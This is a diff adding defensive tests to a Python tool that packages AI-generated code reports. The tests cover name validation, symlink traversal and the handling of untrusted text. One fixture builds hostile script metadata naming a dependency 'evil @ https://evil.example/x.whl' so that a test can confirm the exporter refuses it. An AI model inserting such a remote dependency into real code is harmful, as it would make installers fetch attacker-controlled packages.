@@ -2,9 +2,12 @@
 
 from __future__ import annotations
 
+import contextlib
 import os
+import re
 import subprocess
 import sys
+import tempfile
 import tomllib
 from importlib.metadata import version
 from pathlib import Path
@@ -12,6 +15,8 @@ from typing import Any
 
 import pandas as pd
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 from uv import find_uv_bin
 
 from autocoder_jupyter.calls.function import Function
@@ -19,8 +24,9 @@ from autocoder_jupyter.contracts.reading import contract_of
 from autocoder_jupyter.data.drift import shape_of
 from autocoder_jupyter.errors import InvalidRequest
 from autocoder_jupyter.tasks.package import export_package
-from autocoder_jupyter.types import CodePlan, InputSpec, OutputSpec, Report
-from tests.tasks.test_export import PLOT, PLOT_TESTS
+from autocoder_jupyter.types import CodePlan, CodeSolution, Exchange, InputSpec, OutputSpec, Report
+from autocoder_jupyter.untrusted.visible import visible_block
+from tests.tasks.test_export import PLOT, PLOT_TESTS, WORDS, shape
 
 CODE = '''import pandas as pd
 
@@ -153,11 +159,80 @@ def test_tests_of_a_picture_pass_in_the_package(report: Any, tmp_path: Path) -> 
     assert "1 passed" in tested.stdout, tested.stdout + tested.stderr
 
 
-@pytest.mark.parametrize("name", ["_growth", "growth_", "größe", "pandas"])
+@pytest.mark.parametrize("name", ["_growth", "growth_", "größe", "pandas", "NumPy", "scikit_learn", "sklearn"])
 def test_a_name_that_a_package_cannot_have_is_refused(growth: Report, tmp_path: Path, name: str) -> None:
     with pytest.raises(InvalidRequest, match=r"cannot be named|would hide the module"):
         packaged(growth.model_copy(update={"name": name}), tmp_path / "made")
     assert not (tmp_path / "made").exists()
+
+
+@given(words=st.tuples(*[WORDS] * 9))
+@settings(max_examples=15, deadline=None)
+def test_whatever_words_are_in_a_report_the_package_is_the_same(words: tuple[str, ...]) -> None:
+    def made(words: tuple[str, ...]) -> dict[str, str]:
+        prompt, model, about, assumption, meaning, default, column, dtype, rename = words
+        inputs = (
+            InputSpec(name="sales", type="DataFrame", meaning=meaning),
+            InputSpec(name="text", type="str", required=False, default=default),
+        )
+        shape_of_sales = {"rows": 1, "columns": [[repr(column), dtype]], "index": [["None", "int64"]]}
+        report = Report.model_construct(
+            **Report(name="growth", run_id="1", prompt="p", success=True, solution=CodeSolution(code=CODE)).__dict__
+            | {"prompt": prompt, "plan": CodePlan(description=about, approach="", assumptions=(assumption,))}
+            | {"conversation_history": (Exchange(stage="plan", key="k", model=model, messages=(), answer=""),)}
+            | {"declared_inputs": inputs, "sample_shapes": {"sales": shape_of_sales}, "tests": TESTS}
+            | {"declared_outputs": (OutputSpec(name="kept", type="DataFrame"), OutputSpec(name="last", type="str"))}
+            | {"renames": {"orders": rename}, "lock": ("pandas==3.1",), "python_version": (3, 11)}
+        )
+        with tempfile.TemporaryDirectory() as folder:
+            packaged(report, Path(folder))
+            return {
+                path.relative_to(folder).as_posix(): path.read_text("utf-8")
+                for path in Path(folder).rglob("*")
+                if path.is_file()
+            }
+
+    files, plain = made(words), made(("plain",) * 9)
+    assert files.keys() == plain.keys()
+    for path, text in files.items():
+        assert visible_block(text) == text
+        if path.endswith(".py"):
+            assert shape(text) == shape(plain[path])
+    project, other = tomllib.loads(files["pyproject.toml"]), tomllib.loads(plain["pyproject.toml"])
+    project["project"]["description"] = other["project"]["description"]
+    assert project == other
+    assert not re.search(r"(?m)^[^#\n]", files["constraints.txt"].replace("pandas==3.1\n", ""))
+    # The words of others are in a block of code, which is not read as Markdown.
+    page, other_page = (
+        [line for line in text["README.md"].splitlines() if line[:4].strip()] for text in (files, plain)
+    )
+    assert page == other_page
+
+
+def test_code_and_tests_with_metadata_of_their_own_are_not_written(growth: Report, tmp_path: Path) -> None:
+    metadata = '# /// script\n# dependencies = ["evil @ https://evil.example/x.whl"]\n# ///\n'
+    for hostile in (
+        growth.model_copy(update={"solution": CodeSolution(code=metadata + CODE)}),
+        growth.model_copy(update={"tests": metadata + TESTS}),
+    ):
+        with pytest.raises(InvalidRequest, match="already has script metadata"):
+            packaged(hostile, tmp_path / "made")
+    assert not (tmp_path / "made").exists()
+
+
+@pytest.mark.parametrize("link", ["src", "src/growth", "tests", "pyproject.toml", "src/growth/solution.py"])
+def test_no_file_of_a_package_is_written_through_a_link(growth: Report, tmp_path: Path, link: str) -> None:
+    outside, made = tmp_path / "outside", tmp_path / "made"
+    (made / link).parent.mkdir(parents=True)
+    if link.endswith((".py", ".toml")):
+        outside.write_text("mine")
+    else:
+        outside.mkdir()
+    (made / link).symlink_to(outside)
+    with contextlib.suppress(InvalidRequest):
+        packaged(growth, made)
+        assert not (made / link).is_symlink()
+    assert outside.read_text() == "mine" if outside.is_file() else not list(outside.iterdir())
 
 
 @pytest.mark.slow
